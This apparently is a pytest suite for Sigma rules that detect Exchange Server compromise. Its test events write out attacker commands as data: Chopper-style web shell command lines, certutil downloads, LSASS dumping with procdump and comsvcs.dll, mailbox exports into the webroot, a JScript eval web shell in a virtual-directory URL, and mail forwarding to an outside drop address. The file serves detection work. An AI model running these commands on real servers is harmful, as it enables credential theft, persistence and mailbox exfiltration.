"""Built-in Sigma rules for host signals: process creation, the Application log and the
MSExchange Management channel. Every rule fires on its attack and stays silent on the near miss;
legitimate administration stays silent or low."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path
from xml.sax.saxutils import escape

import pytest

from agent.detection import Severity
from agent.logrecord import LogRecord
from agent.sigma import SigmaRuleSet
from agent.sigma.loader import builtin_rules_dir
from agent.winevent.mapping import map_event
from agent.winevent.xml import parse_event_xml

HOST_PREFIXES = ("proc_", "win_app_", "win_msexchange_")

SYSTEM = "NT AUTHORITY\\SYSTEM"
INETSRV = "C:\\Windows\\System32\\inetsrv\\"
W3WP = INETSRV + "w3wp.exe"
SYS32 = "C:\\Windows\\System32\\"
EXBIN = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\"
UMWORKER = EXBIN + "UMWorkerProcess.exe"
UMSERVICE = EXBIN + "UMService.exe"
MRS = EXBIN + "MSExchangeMailboxReplication.exe"
CMD = SYS32 + "cmd.exe"
PS = SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe"
NETFX = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\"


def w3wp_cmdline(pool: str) -> str:
    return (
        f'{W3WP} -ap "{pool}" -v "v4.0" -c "{EXBIN}GenericAppPoolConfigWithGCServerEnabledFalse'
        f'.config" -a \\\\.\\pipe\\iisipm5b1e -h "C:\\inetpub\\temp\\apppools\\{pool}\\{pool}'
        f'.config" -w "" -m 0'
    )


OWA_POOL = w3wp_cmdline("MSExchangeOWAAppPool")
ECP_POOL = w3wp_cmdline("MSExchangeECPAppPool")
DEFAULT_POOL = w3wp_cmdline("DefaultAppPool")


def proc(
    image: str,
    cmdline: str,
    parent: str = W3WP,
    parent_cmdline: str = "",
    *,
    user: str = SYSTEM,
    original: str = "",
    pool: str = "",
) -> dict[str, str]:
    """A process_creation event as agent.sources.processes.process_fields makes it."""
    return {
        "Image": image,
        "OriginalFileName": original,
        "CommandLine": cmdline,
        "ParentImage": parent,
        "ParentCommandLine": parent_cmdline,
        "User": user,
        "CurrentDirectory": "",
        "ProcessId": "4242",
        "ParentProcessId": "1000",
        "AppPool": pool,
    }


def mgmt(text: str, event_id: str = "1") -> dict[str, str]:
    """An MSExchange Management event given as its rendered text only."""
    return {"EventID": event_id, "Provider_Name": "MSExchange CmdletLogs", "Data": text}


def app(provider: str, level: str, message: str, event_id: str = "1000") -> dict[str, str]:
    return {
        "Provider_Name": provider,
        "EventID": event_id,
        "Level": level,
        "Channel": "Application",
        "Data1": message,
        "Data": message,
    }


Event = tuple[str, Mapping[str, str]]


@dataclass
class Case:
    rule_id: str
    level: Severity
    positives: list[Event]
    negatives: list[Event]
    cve: str | None = None


def P(fields: Mapping[str, str]) -> Event:
    return ("process_creation", fields)


def M(text: str, event_id: str = "1") -> Event:
    return ("msexchange-management", mgmt(text, event_id))


def A(provider: str, level: str, message: str) -> Event:
    return ("application", app(provider, level, message))


CHOPPER = 'cmd /c cd /d "C:\\inetpub\\wwwroot\\aspnet_client"&whoami&echo [S]&cd&echo [E]'
ASPNET_COMPILE = (
    f'"{NETFX}csc.exe" /noconfig /fullpaths @"{NETFX}Temporary ASP.NET Files\\owa\\'
    '4e2d6a0b\\b7e4d2a5\\xkx3u0ra.cmdline"'
)
EXPORT_WEB = (
    'powershell -c "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; '
    'New-MailboxExportRequest -Mailbox admin -FilePath "\\\\127.0.0.1\\C$\\inetpub\\wwwroot'
    '\\aspnet_client\\x.aspx""'
)
EXPORT_SHARE = (
    'powershell -c "New-MailboxExportRequest -Mailbox leaver -FilePath '
    '\\\\fileserver\\pst$\\leaver.pst"'
)
SNAPIN = (
    "powershell.exe -NoProfile -Command Add-PSSnapin "
    "Microsoft.Exchange.Management.PowerShell.SnapIn; Get-Mailbox -ResultSize 10"
)
UM_ERROR = (
    "An unhandled exception occurred in a UM worker process: System.InvalidCastException: "
    "Unable to cast object of type 'System.Windows.Data.ObjectDataProvider'"
)

CASES = [
    Case(
        "0c03e551-db22-4511-8a12-8fdc6d5de9e3",
        Severity.HIGH,
        [
            P(proc(CMD, CHOPPER, W3WP, OWA_POOL, pool="MSExchangeOWAAppPool")),
            P(proc(PS, "powershell -enc SQBFAFgA", W3WP, ECP_POOL)),
            # Security 4688: no parent command line, pool unknown -> still high on Exchange.
            P(proc(CMD, "cmd /c whoami", W3WP)),
            # psutil without access to paths: bare names.
            P(proc("cmd.exe", "cmd /c whoami", "w3wp.exe", pool="MSExchangeOWAAppPool")),
        ],
        [
            P(proc(CMD, "cmd /c whoami", W3WP, DEFAULT_POOL, user="IIS APPPOOL\\DefaultAppPool")),
            P(proc(CMD, "cmd", SYS32 + "explorer.exe", user="CONTOSO\\admin")),
            P(proc(SYS32 + "WerFault.exe", "WerFault.exe -u -p 4242 -s 1", W3WP, OWA_POOL)),
        ],
        cve="cve.2021-27065",
    ),
    Case(
        "0d551cd6-fb0b-4f1b-992a-2ef1d67d78ce",
        Severity.MEDIUM,
        [
            P(proc(CMD, "cmd /c dir", W3WP, DEFAULT_POOL)),
            P(proc(CMD, "cmd /c dir", W3WP, user="IIS APPPOOL\\Intranet")),
            P(proc(PS, "powershell -File x.ps1", W3WP, pool="Intranet")),
        ],
        [
            P(proc(CMD, "cmd /c dir", W3WP, OWA_POOL, pool="MSExchangeOWAAppPool")),
            P(proc(CMD, "cmd /c dir", W3WP)),  # pool unknown: the high rule's
            P(proc(SYS32 + "conhost.exe", "conhost.exe 0xffffffff", W3WP, DEFAULT_POOL)),
        ],
    ),
    Case(
        "afa82034-d738-4618-8ff2-5ff34ff33541",
        Severity.HIGH,
        [
            P(proc(CMD, "cmd /c whoami", UMSERVICE)),
            P(proc(PS, "powershell -nop -w hidden", MRS)),
        ],
        [
            P(proc(UMWORKER, "UMWorkerProcess.exe 1234", UMSERVICE)),
            P(proc(SYS32 + "WerFault.exe", "WerFault.exe -u -p 1 -s 2", MRS)),
        ],
        cve="cve.2021-26857",
    ),
    Case(
        "f3d1de2b-05f4-47ed-b28e-7540cf6ed61f",
        Severity.HIGH,
        [
            P(proc(CMD, "cmd /c whoami", UMWORKER)),
            P(proc("C:\\ProgramData\\x.exe", "x.exe", UMWORKER)),
        ],
        [
            P(proc(SYS32 + "WerFault.exe", "WerFault.exe -u -p 3100 -s 1204", UMWORKER)),
            P(proc(SYS32 + "wermgr.exe", "wermgr.exe -upload", UMWORKER)),
            P(proc(CMD, "cmd /c whoami", UMSERVICE)),
        ],
        cve="cve.2021-26857",
    ),
    Case(
        "38ec7d69-1cc2-4726-9e03-9ceebe044fc3",
        Severity.HIGH,
        [
            P(proc(SYS32 + "whoami.exe", "whoami /all", W3WP, OWA_POOL)),
            P(proc(SYS32 + "certutil.exe", "certutil -urlcache -f http://x/a a.exe", W3WP)),
            P(proc(SYS32 + "net1.exe", "net1 user", UMSERVICE)),
            P(proc(SYS32 + "nltest.exe", "nltest /domain_trusts", MRS)),
            # renamed binary, Sysmon's OriginalFileName gives it away
            P(proc("C:\\ProgramData\\svc.exe", "svc /all", W3WP, original="whoami.exe")),
            P(proc(NETFX + "csc.exe", f"{NETFX}csc.exe /out:C:\\ProgramData\\a.exe a.cs", W3WP)),
            P(proc("rundll32.exe", "rundll32 x.dll,Run", "w3wp.exe")),
            P(proc(INETSRV + "appcmd.exe", "appcmd.exe install module /name:x /image:x.dll", W3WP)),
        ],
        [
            P(proc(NETFX + "csc.exe", ASPNET_COMPILE, W3WP, OWA_POOL)),
            P(proc(SYS32 + "whoami.exe", "whoami", CMD)),
            P(proc(SYS32 + "WerFault.exe", "WerFault.exe -u -p 4242 -s 1", W3WP, OWA_POOL)),
            P(proc(SYS32 + "whoami.exe", "whoami", UMWORKER)),  # UM worker: its own rule
        ],
    ),
    Case(
        "138a25e9-3e0b-4707-96cf-439f3f23bc49",
        Severity.HIGH,
        [
            P(proc("C:\\ProgramData\\VSPerfMon\\a.exe", "a.exe -c x", W3WP, OWA_POOL)),
            P(proc("C:\\Python39\\python.exe", "python -h", W3WP)),
            P(proc("C:\\Users\\Public\\x.exe", "x.exe", MRS)),
        ],
        [
            P(proc(NETFX + "csc.exe", ASPNET_COMPILE, W3WP, OWA_POOL)),
            P(proc("python.exe", "python -h", "w3wp.exe")),  # bare name: no path to judge
            P(proc("D:\\Sites\\crm\\bin\\report.exe", "report.exe", W3WP, DEFAULT_POOL)),
            P(proc(UMWORKER, "UMWorkerProcess.exe 1 2", UMSERVICE)),
            P(proc("C:\\ProgramData\\a.exe", "a.exe", SYS32 + "explorer.exe")),
        ],
    ),
    Case(
        "f38ad71f-6404-4d87-83b9-ead58d862a1a",
        Severity.LOW,
        [P(proc(NETFX + "csc.exe", ASPNET_COMPILE, W3WP, OWA_POOL))],
        [
            P(proc(NETFX + "csc.exe", f"{NETFX}csc.exe /out:C:\\ProgramData\\a.exe a.cs", W3WP)),
            P(proc(NETFX + "csc.exe", ASPNET_COMPILE, SYS32 + "msiexec.exe")),
        ],
    ),
    Case(
        "132031a3-03e8-4377-8441-c91b01f924a3",
        Severity.CRITICAL,
        [
            P(proc(CMD, CHOPPER, W3WP, OWA_POOL)),
            P(proc(CMD, 'cmd /c cd /d "C:\\"&ipconfig&echo [S]&cd&echo [E]', W3WP)),
            P(proc(CMD, 'cmd /c cd /d "C:\\"&dir&echo [S]', "")),
        ],
        [
            P(proc(CMD, "cmd /c ipconfig & echo done", SYS32 + "explorer.exe")),
            P(proc(CMD, "cmd /c echo [S] && whoami", SYS32 + "explorer.exe")),
        ],
        cve="cve.2021-27065",
    ),
    Case(
        "ea2c5194-5bd0-411d-98b8-6bafe0d2161c",
        Severity.CRITICAL,
        [
            P(
                proc(
                    "C:\\root\\procdump64.exe",
                    "procdump64.exe -accepteula -ma lsass.exe C:\\root\\lsass.dmp",
                    CMD,
                )
            ),
            P(proc("C:\\ProgramData\\p.exe", "p.exe /ma lsass C:\\Windows\\Temp\\l.dmp", CMD)),
        ],
        [
            P(
                proc(
                    "C:\\tools\\procdump.exe", "procdump.exe -ma w3wp.exe C:\\dumps\\w3wp.dmp", CMD
                )
            ),
            P(proc(SYS32 + "tasklist.exe", 'tasklist /fi "imagename eq lsass.exe"', CMD)),
        ],
    ),
    Case(
        "f37ff30b-1455-40b4-a857-0a014782712f",
        Severity.CRITICAL,
        [
            P(
                proc(
                    SYS32 + "rundll32.exe",
                    "rundll32.exe C:\\Windows\\System32\\comsvcs.dll MiniDump 624 "
                    "C:\\ProgramData\\l.dmp full",
                    PS,
                )
            ),
            P(
                proc(
                    SYS32 + "rundll32.exe",
                    "rundll32 comsvcs.dll, #24 624 C:\\root\\x.dmp full",
                    CMD,
                )
            ),
        ],
        [
            P(proc(SYS32 + "regsvr32.exe", "regsvr32 /s comsvcs.dll", CMD)),
            P(proc(SYS32 + "rundll32.exe", "rundll32 comsvcs.dll MiniDump 624 x.dmp", CMD)),
        ],
    ),
    Case(
        "250bf50e-d708-4784-be26-5f4803d56685",
        Severity.HIGH,
        [
            P(
                proc(
                    "C:\\ProgramData\\7za.exe",
                    "7za.exe a -t7z -r C:\\ProgramData\\pst.7z C:\\ProgramData\\pst",
                    CMD,
                )
            ),
            P(
                proc(
                    "C:\\Program Files\\7-Zip\\7z.exe",
                    '"C:\\Program Files\\7-Zip\\7z.exe" a x.zip C:\\root\\lsass.dmp',
                    CMD,
                )
            ),
        ],
        [
            P(
                proc(
                    "C:\\Program Files\\7-Zip\\7z.exe",
                    '"C:\\Program Files\\7-Zip\\7z.exe" x C:\\ProgramData\\tools.7z -t7z',
                    CMD,
                )
            ),
            P(
                proc(
                    "C:\\Program Files\\7-Zip\\7z.exe",
                    '"C:\\Program Files\\7-Zip\\7z.exe" a D:\\backup\\logs.zip D:\\logs',
                    CMD,
                )
            ),
        ],
    ),
    Case(
        "f9a10a0e-886f-4397-a85c-9eb143691a11",
        Severity.HIGH,
        [
            P(proc("C:\\ProgramData\\rar.exe", "rar.exe a -hpS3cr3t out.rar C:\\root\\l.dmp", CMD)),
            P(
                proc(
                    "C:\\Program Files\\WinRAR\\WinRAR.exe",
                    "WinRAR.exe a mail.rar C:\\ProgramData\\pst\\ceo.pst",
                    CMD,
                )
            ),
        ],
        [
            P(proc("C:\\ProgramData\\rar.exe", "rar.exe x in.rar C:\\root\\l.dmp", CMD)),
            P(proc("C:\\ProgramData\\rar.exe", "rar.exe a logs.rar D:\\logs", CMD)),
        ],
    ),
    Case(
        "7167c037-2c15-4b09-99c5-0e7ba503284e",
        Severity.HIGH,
        [
            P(proc(SYS32 + "makecab.exe", "makecab C:\\root\\lsass.dmp C:\\root\\l.cab", CMD)),
            P(proc(SYS32 + "makecab.exe", "makecab a.txt a.cab", W3WP)),
        ],
        [
            P(
                proc(
                    SYS32 + "makecab.exe",
                    "makecab.exe C:\\Windows\\Logs\\CBS\\CbsPersist_20260120.log "
                    "C:\\Windows\\Logs\\CBS\\CbsPersist_20260120.cab",
                    SYS32 + "svchost.exe",
                )
            ),
            P(proc(SYS32 + "makecab.exe", "makecab report.txt report.cab", CMD)),
        ],
    ),
    Case(
        "7924a931-ad95-488e-8a9f-a2b76276d724",
        Severity.MEDIUM,
        [
            P(proc(PS, SNAPIN, SYS32 + "explorer.exe", user="CONTOSO\\admin")),
            P(
                proc(
                    PS,
                    "powershell -EncodedCommand QQBkAGQALQBQAFMAUwBuAGEAcABpAG4AIABNAGkAYwByAG8A"
                    "cwBvAGYAdAAuAEUAeABjAGgAYQBuAGcAZQAuAE0AYQBuAGEAZwBlAG0AZQBuAHQALgBQAG8AdwBl"
                    "AHIAUwBoAGUAbABsAC4AUwBuAGEAcABJAG4A",
                    SYS32 + "taskeng.exe",
                )
            ),
        ],
        [
            P(proc(PS, SNAPIN, W3WP, OWA_POOL)),  # the high rule's
            P(proc(PS, "powershell -c Get-PSSnapin", SYS32 + "explorer.exe")),
            P(
                proc(
                    PS,
                    ". 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\bin\\"
                    "RemoteExchange.ps1'; Connect-ExchangeServer -auto",
                    SYS32 + "explorer.exe",
                )
            ),
        ],
    ),
    Case(
        "e2a88621-3c88-477c-b9b5-fc9cbf9d25da",
        Severity.HIGH,
        [P(proc(PS, SNAPIN, W3WP, OWA_POOL)), P(proc(PS, SNAPIN, UMWORKER))],
        [P(proc(PS, SNAPIN, SYS32 + "explorer.exe")), P(proc(PS, "powershell -c dir", W3WP))],
    ),
    Case(
        "08cb65ef-cd84-44ac-80d4-610399bff23f",
        Severity.HIGH,
        [
            P(
                proc(
                    SYS32 + "attrib.exe",
                    "attrib +h +s +r C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\log.aspx",
                    CMD,
                )
            ),
            P(
                proc(
                    CMD,
                    'cmd /c attrib +s +h "C:\\Program Files\\Microsoft\\Exchange Server\\'
                    'V15\\FrontEnd\\HttpProxy\\owa\\auth\\errorEE.aspx"',
                    W3WP,
                )
            ),
        ],
        [
            P(
                proc(
                    SYS32 + "attrib.exe",
                    "attrib -h -s C:\\inetpub\\wwwroot\\aspnet_client\\log.aspx",
                    CMD,
                )
            ),
            P(proc(SYS32 + "attrib.exe", "attrib +h +s C:\\Users\\a\\desktop.ini", CMD)),
        ],
    ),
    Case(
        "0f0638ba-e929-4868-a8aa-859195281ac2",
        Severity.CRITICAL,
        [
            P(proc(PS, EXPORT_WEB, W3WP, OWA_POOL)),
            P(
                proc(
                    PS,
                    "powershell New-MailboxExportRequest -Mailbox a -FilePath:'\\\\localhost"
                    "\\c$\\x\\y.pst'",
                    CMD,
                )
            ),
        ],
        [
            P(proc(PS, EXPORT_SHARE, SYS32 + "explorer.exe")),
            P(proc(PS, "powershell Get-MailboxExportRequest | fl FilePath", CMD)),
        ],
        cve="cve.2021-34473",
    ),
    Case(
        "9fecbda6-5664-448d-afd0-cb67e4aa478a",
        Severity.MEDIUM,
        [P(proc(PS, EXPORT_SHARE, SYS32 + "taskeng.exe"))],
        [
            P(proc(PS, EXPORT_WEB, W3WP)),  # the critical rule's
            P(proc(PS, "powershell New-MailboxExportRequest -Mailbox a -FilePath D:\\x.pst", CMD)),
        ],
    ),
    Case(
        "96794d9d-5d82-4522-819c-0b97043290da",
        Severity.HIGH,
        [A("MSExchange Unified Messaging", "2", UM_ERROR)],
        [
            A("MSExchange Unified Messaging", "3", UM_ERROR),
            A("MSExchange Unified Messaging", "2", "The UM worker process exited: timeout."),
            A("Application Error", "2", UM_ERROR),
        ],
        cve="cve.2021-26857",
    ),
    Case(
        "71dea77b-11a4-4a85-9b6b-ecb827aff589",
        Severity.HIGH,
        [
            M(
                'Cmdlet succeeded. Cmdlet Install-TransportAgent, parameters -Name "MsgFilter" '
                '-TransportAgentFactory "A.Factory" -AssemblyPath "C:\\ProgramData\\a\\agent.dll"'
            ),
            M(
                'Cmdlet succeeded. Cmdlet Install-TransportAgent, parameters -Name "x" '
                '-AssemblyPath "C:\\Windows\\Temp\\x.dll" -TransportAgentFactory "x"'
            ),
        ],
        [
            M(
                'Cmdlet succeeded. Cmdlet Install-TransportAgent, parameters -Name "Disclaimer" '
                '-AssemblyPath "C:\\Program Files\\Vendor\\Agent.dll"'
            ),
            M('Cmdlet succeeded. Cmdlet Get-TransportAgent, parameters -Identity "x"'),
        ],
    ),
]


@pytest.fixture(scope="module")
def ruleset() -> SigmaRuleSet:
    return SigmaRuleSet.load([], builtin=True)


def _ids(ruleset: SigmaRuleSet, event: Event) -> set[str]:
    return {d.rule_id for d in ruleset.match_event(*event)}


def _host_rule_files() -> list[Path]:
    return sorted(p for p in builtin_rules_dir().glob("*.yml") if p.name.startswith(HOST_PREFIXES))


def test_every_host_rule_is_tested_and_well_formed(ruleset: SigmaRuleSet) -> None:
    assert ruleset.problems == ()
    host = {r.detection.rule_id for r in ruleset.rules if r.file.name.startswith(HOST_PREFIXES)}
    assert host == {c.rule_id for c in CASES}
    assert len(host) == len(_host_rule_files())
    for case in CASES:
        assert case.positives and case.negatives, case.rule_id
        rule = next(r for r in ruleset.rules if r.detection.rule_id == case.rule_id)
        text = rule.file.read_text(encoding="utf-8")
        assert "author: exwatch" in text and "description:" in text, rule.file


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.rule_id[:8])
def test_host_rule(ruleset: SigmaRuleSet, case: Case) -> None:
    rule = next(r for r in ruleset.rules if r.detection.rule_id == case.rule_id)
    assert rule.detection.severity is case.level
    assert any(t.startswith("attack.") for t in rule.detection.tags)
    if case.cve:
        assert case.cve in rule.detection.tags
    for event in case.positives:
        found = [d for d in ruleset.match_event(*event) if d.rule_id == case.rule_id]
        assert found, f"{rule.detection.title} missed {event}"
        assert found[0].severity is case.level
    for event in case.negatives:
        assert case.rule_id not in _ids(ruleset, event), f"{rule.detection.title} fired on {event}"


# ------------------------------------------------------------------------------------------
# Severity by what it is, and legitimate administration


def _levels(ruleset: SigmaRuleSet, fields: Mapping[str, str]) -> list[Severity]:
    return sorted(d.severity for d in ruleset.match_event("process_creation", fields))


def test_shell_severity_follows_the_application_pool(ruleset: SigmaRuleSet) -> None:
    exchange = proc(CMD, "cmd /c dir", W3WP, OWA_POOL, pool="MSExchangeOWAAppPool")
    unknown = proc(CMD, "cmd /c dir", W3WP)
    other = proc(CMD, "cmd /c dir", W3WP, DEFAULT_POOL, pool="DefaultAppPool")
    assert _levels(ruleset, exchange) == [Severity.HIGH]
    assert _levels(ruleset, unknown) == [Severity.HIGH]
    assert _levels(ruleset, other) == [Severity.MEDIUM]


def test_legitimate_administration_is_silent_or_low(ruleset: SigmaRuleSet) -> None:
    silent = [
        proc(CMD, '"C:\\Windows\\system32\\cmd.exe"', SYS32 + "explorer.exe", user="C\\admin"),
        proc(PS, "powershell.exe", SYS32 + "explorer.exe", user="CONTOSO\\admin"),
        proc(SYS32 + "WerFault.exe", "WerFault.exe -u -p 3100 -s 1204", UMWORKER),
        proc(SYS32 + "WerFault.exe", "WerFault.exe -u -p 3100 -s 1204", W3WP, OWA_POOL),
        proc(UMWORKER, "UMWorkerProcess.exe 1234", UMSERVICE),
        proc(W3WP, OWA_POOL, SYS32 + "svchost.exe"),
        proc(
            SYS32 + "makecab.exe",
            "makecab C:\\Windows\\Logs\\CBS\\CbsPersist_1.log x.cab",
            SYS32 + "svchost.exe",
        ),
        proc(SYS32 + "ipconfig.exe", "ipconfig /all", CMD, user="CONTOSO\\admin"),
        proc(
            PS,
            ". 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\bin\\"
            "RemoteExchange.ps1'; Connect-ExchangeServer -auto",
            SYS32 + "explorer.exe",
        ),
    ]
    for fields in silent:
        assert ruleset.match_event("process_creation", fields) == [], fields
    # ASP.NET compiling a page: context only.
    compile_page = proc(NETFX + "csc.exe", ASPNET_COMPILE, W3WP, OWA_POOL)
    assert _levels(ruleset, compile_page) == [Severity.LOW]
    # An admin loading the snap-in: medium, never high.
    assert _levels(ruleset, proc(PS, SNAPIN, SYS32 + "explorer.exe")) == [Severity.MEDIUM]


def test_process_values_are_not_url_decoded(ruleset: SigmaRuleSet) -> None:
    # '+' and '%' are literal in command lines: "+h" must not turn into " h".
    fields = proc(SYS32 + "attrib.exe", "attrib /s /d C:\\x\\shell.aspx hidden", CMD)
    assert ruleset.match_event("process_creation", fields) == []
    encoded = proc(CMD, "cmd /c %26whoami%26echo %5BS%5D", W3WP)
    assert "132031a3-03e8-4377-8441-c91b01f924a3" not in _ids(ruleset, P(encoded))


# ------------------------------------------------------------------------------------------
# MSExchange Management: the cmdlet rules fire from the event channel in every form it takes

MGMT_ATTACKS = {
    "f50cca0b-70d0-444b-8279-37a45577a089": (
        "New-MailboxExportRequest",
        '-Mailbox "admin" -FilePath "\\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\x.aspx"',
    ),
    "c11c1f9b-d96c-4987-9f49-4e7c21b7e292": (
        "New-ManagementRoleAssignment",
        '-Role "Mailbox Import Export" -User "CONTOSO\\svc"',
    ),
    "6723081f-698e-42df-8336-a1ceae85f191": (
        "New-ExchangeCertificate",
        '-GenerateRequest -BinaryEncoded -RequestFile "\\\\localhost\\C$\\inetpub\\wwwroot\\'
        'aspnet_client\\cert.aspx" -SubjectName "CN=x"',
    ),
    "b0d5304f-dabd-4240-8a5f-d4044a46f9ce": (
        "Remove-MailboxExportRequest",
        '-Identity "admin\\MailboxExport" -Confirm "False"',
    ),
    "4edca060-fb70-4b59-ab5b-314d9e66e07d": (
        "Set-OabVirtualDirectory",
        '-Identity "EXCH01\\OAB (Default Web Site)" -ExternalUrl "http://f/<script language='
        '"JScript" runat="server">function Page_Load(){eval(Request["k"],"unsafe");}</script>"',
    ),
    "103e54d0-334f-4415-a3a3-d7d705e88356": (
        "New-MailboxExportRequest",
        '-Mailbox "leaver" -FilePath "\\\\fileserver\\pst$\\leaver.pst"',
    ),
    "6f9887ab-3530-4947-b4c0-41d586183c00": (
        "New-InboxRule",
        '-Mailbox "ceo" -Name "." -ForwardTo "drop@mail.example" -MarkAsRead "True"',
    ),
    "71dea77b-11a4-4a85-9b6b-ecb827aff589": (
        "Install-TransportAgent",
        '-Name "x" -AssemblyPath "C:\\ProgramData\\x.dll" -TransportAgentFactory "x.F"',
    ),
}


def _management_forms(cmdlet: str, params: str) -> list[Mapping[str, str]]:
    text = f"Cmdlet succeeded. Cmdlet {cmdlet}, parameters {params}"
    return [
        {"EventID": "1", "Data": text},  # keyword text only
        {"EventID": "1", "Message": text},
        {"EventID": "1", "Cmdlet": cmdlet, "Parameters": params},  # columns only
        # what agent.winevent.mapping.management_fields produces
        {"EventID": "1", "Cmdlet": cmdlet, "Parameters": params, "Data": text, "Message": text},
    ]


@pytest.mark.parametrize("rule_id", sorted(MGMT_ATTACKS), ids=lambda r: r[:8])
def test_cmdlet_rules_fire_from_the_management_channel(ruleset: SigmaRuleSet, rule_id: str) -> None:
    cmdlet, params = MGMT_ATTACKS[rule_id]
    for fields in _management_forms(cmdlet, params):
        assert rule_id in _ids(ruleset, ("msexchange-management", fields)), fields
    row = {"Cmdlet": cmdlet, "Parameters": params, "Success": "True"}
    record = LogRecord("cmdlet", row, "Rps_Cmdlet_2026012010-1.LOG", 2, ",".join(row.values()))
    assert rule_id in {d.rule_id for d in ruleset.match(record)}


def test_vdir_rule_catches_asp_code_blocks(ruleset: SigmaRuleSet) -> None:
    rule_id = "4edca060-fb70-4b59-ab5b-314d9e66e07d"
    evil = M(
        "Cmdlet succeeded. Cmdlet Set-OabVirtualDirectory, parameters -ExternalUrl "
        "\"http://f/<%Response.Write(new ActiveXObject('WScript.Shell'))%>\""
    )
    benign = M(
        "Cmdlet succeeded. Cmdlet Set-OwaVirtualDirectory, parameters -ExternalUrl "
        '"https://mail.contoso.com/owa" -InternalUrl "https://exch01.corp.local/owa"'
    )
    assert rule_id in _ids(ruleset, evil)
    assert rule_id not in _ids(ruleset, benign)


def test_management_fields_derive_from_each_other(ruleset: SigmaRuleSet) -> None:
    from agent.sigma.fieldmap import management_event

    text = 'Cmdlet failed. Cmdlet Get-App, parameters -Mailbox "admin"'
    event = management_event({"EventID": "6", "Data": text})
    assert event.raw("Cmdlet") == ("Get-App",)
    assert event.raw("Parameters") == ('-Mailbox "admin"',)
    composed = management_event({"EventID": "6", "Cmdlet": "Get-App", "Parameters": "-Mailbox a"})
    assert composed.raw("Data") == ("Cmdlet failed. Cmdlet Get-App, parameters -Mailbox a",)
    row = {"Cmdlet": "Get-App", "Parameters": "-Mailbox a", "Success": "False"}
    from_log = management_event(row, from_log=True)
    assert from_log.raw("EventID") == ("6",)
    assert from_log.raw("Message") == ("Cmdlet failed. Cmdlet Get-App, parameters -Mailbox a",)


# ------------------------------------------------------------------------------------------
# End to end from Windows event XML, through agent.winevent's mapping

NS = "http://schemas.microsoft.com/win/2004/08/events/event"


def _xml(provider: str, event_id: int, level: int, channel: str, data: str, msg: str = "") -> str:
    rendering = f"<RenderingInfo><Message>{escape(msg)}</Message></RenderingInfo>" if msg else ""
    return (
        f'<Event xmlns="{NS}"><System><Provider Name="{provider}"/><EventID>{event_id}</EventID>'
        f'<Level>{level}</Level><TimeCreated SystemTime="2026-01-20T10:00:00.000Z"/>'
        f"<EventRecordID>7</EventRecordID><Channel>{channel}</Channel><Computer>EXCH01"
        f"</Computer></System><EventData>{data}</EventData>{rendering}</Event>"
    )


def _d(name: str, value: str) -> str:
    return f'<Data Name="{name}">{escape(value)}</Data>'


def _detect(ruleset: SigmaRuleSet, xml: str) -> set[str]:
    mapped = map_event(parse_event_xml(xml))
    assert mapped is not None
    return {d.rule_id for d in ruleset.match_event(mapped.logsource, mapped.fields)}


def test_rules_fire_on_real_event_records(ruleset: SigmaRuleSet) -> None:
    sysmon = _xml(
        "Microsoft-Windows-Sysmon",
        1,
        4,
        "Microsoft-Windows-Sysmon/Operational",
        _d("Image", CMD)
        + _d("OriginalFileName", "Cmd.Exe")
        + _d("CommandLine", CHOPPER)
        + _d("ParentImage", W3WP)
        + _d("ParentCommandLine", OWA_POOL)
        + _d("User", SYSTEM)
        + _d("ProcessId", "4242")
        + _d("ParentProcessId", "1000"),
    )
    assert {
        "132031a3-03e8-4377-8441-c91b01f924a3",
        "0c03e551-db22-4511-8a12-8fdc6d5de9e3",
    } <= _detect(ruleset, sysmon)
    security = _xml(
        "Microsoft-Windows-Security-Auditing",
        4688,
        0,
        "Security",
        _d("SubjectUserSid", "S-1-5-18")
        + _d("NewProcessId", "0x1f3c")
        + _d("NewProcessName", SYS32 + "whoami.exe")
        + _d("ProcessId", "0x3e8")
        + _d("CommandLine", "whoami /all")
        + _d("ParentProcessName", UMWORKER),
    )
    assert "f3d1de2b-05f4-47ed-b28e-7540cf6ed61f" in _detect(ruleset, security)
    um = _xml(
        "MSExchange Unified Messaging", 1000, 2, "Application", f"<Data>{escape(UM_ERROR)}</Data>"
    )
    assert "96794d9d-5d82-4522-819c-0b97043290da" in _detect(ruleset, um)
    um_rendered = _xml(
        "MSExchange Unified Messaging", 1000, 2, "Application", "<Data>1</Data>", UM_ERROR
    )
    assert "96794d9d-5d82-4522-819c-0b97043290da" in _detect(ruleset, um_rendered)
    management = _xml(
        "MSExchange CmdletLogs",
        1,
        4,
        "MSExchange Management",
        '<Data>New-MailboxExportRequest</Data><Data>-Mailbox "admin" -FilePath '
        '"\\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\x.aspx"</Data>',
    )
    assert "f50cca0b-70d0-444b-8279-37a45577a089" in _detect(ruleset, management)
